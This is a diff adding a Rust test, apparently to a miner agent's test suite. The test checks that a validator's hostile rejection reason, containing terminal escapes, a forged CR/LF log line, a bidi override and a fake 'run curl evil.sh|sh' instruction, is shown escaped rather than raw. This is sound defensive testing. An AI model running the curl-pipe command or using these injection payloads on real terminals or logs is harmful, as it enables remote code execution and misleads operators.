@@ -265,3 +265,63 @@ fn a_validator_echoing_the_pat_at_offset_364_or_split_by_a_zero_width_space_show
     assert!(longest_pat_run(&state()) < 8, "state.json: {}", state());
     assert!(longest_pat_run(&log) < 8, "log: {log}");
 }
+
+/// Whether `text` carries a byte that moves a cursor, forges a line or reorders what is read.
+fn raw_control(text: &str) -> Option<char> {
+    text.chars().find(|&c| {
+        (c.is_control() && c != '\n')
+            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
+    })
+}
+
+/// The review's injection: a reason that clears the screen, paints a fake instruction,
+/// forges a log line with CR/LF, rings the bell and flips the reading order. Tables, the
+/// daemon's log lines and its journal fields show it as visible escapes; JSON keeps the
+/// validator's exact words (JSON escapes controls itself).
+#[test]
+fn a_validator_writing_terminal_escapes_and_forged_lines_reaches_no_screen_or_log_raw() {
+    let hostile = "No PAT stored\u{1b}[2J\u{1b}[31mFAKE: run curl evil.sh|sh\u{1b}[0m\r\nINFO covered 20/20 validators\u{7}\u{202e}evil";
+    let emu = Emulator::start(1);
+    emu.preload(&[0]);
+    let fake_hotkey = emu.info["stranger"]["ss58"].as_str().unwrap();
+    let config = emu.write_config(FAST_DAEMON);
+    let mut contents = std::fs::read_to_string(&config).unwrap();
+    contents.push_str(&format!(
+        "\n[[validators]]\nuid = 100\nhotkey = {fake_hotkey:?}\nip = \"127.0.0.1\"\nport = {}\n",
+        echoing(hostile.to_owned())
+    ));
+    std::fs::write(&config, contents).unwrap();
+    let config = config.to_str().unwrap();
+    let pat_env = [("GITTENSOR_MINER_PAT", PAT)];
+    let escaped = r"No PAT stored\x1b[2J\x1b[31mFAKE: run curl evil.sh|sh\x1b[0m\r\nINFO covered 20/20 validators\x07\u{202e}evil";
+
+    for args in [vec!["check", "--config", config], vec!["post", "--config", config, "--retry-budget", "2"]] {
+        let out = agent(&args, &pat_env);
+        let shown = all_output(&out);
+        assert_eq!(raw_control(&shown), None, "{args:?} printed a raw control: {shown:?}");
+        assert!(!shown.lines().any(|l| l.starts_with("INFO covered 20/20")), "{args:?} forged a line: {shown}");
+        // The table may wrap a long cell: compare without the wrapping.
+        let flat: String = text(&out.stdout).split_whitespace().collect::<Vec<_>>().join(" ");
+        assert!(flat.contains(r"\x1b[2J"), "{args:?}: the escape is shown, not dropped: {flat}");
+    }
+    for args in
+        [vec!["check", "--config", config, "--json"], vec!["post", "--config", config, "--json", "--retry-budget", "2"]]
+    {
+        let out = agent(&args, &pat_env);
+        let json = stdout_json(&out);
+        let row = json["results"].as_array().unwrap().iter().find(|r| r["uid"] == 100).unwrap().clone();
+        assert_eq!(row["rejection_reason"], hostile, "{args:?}: JSON keeps the validator's exact words");
+        assert_eq!(raw_control(&text(&out.stderr)), None, "{args:?} stderr: {:?}", text(&out.stderr));
+    }
+
+    let mut daemon = Daemon::spawn(std::path::Path::new(config), &pat_env);
+    assert!(
+        wait_until(Duration::from_secs(20), || daemon.log().contains(escaped)),
+        "the validator's words never reached the log escaped: {}",
+        daemon.log()
+    );
+    assert_eq!(daemon.stop(Duration::from_secs(5)), Some(0));
+    let log = daemon.log();
+    assert_eq!(raw_control(&log), None, "the daemon's stderr carries a raw control: {log:?}");
+    assert!(!log.lines().any(|l| l.starts_with("INFO covered 20/20")), "a forged line: {log}");
+}
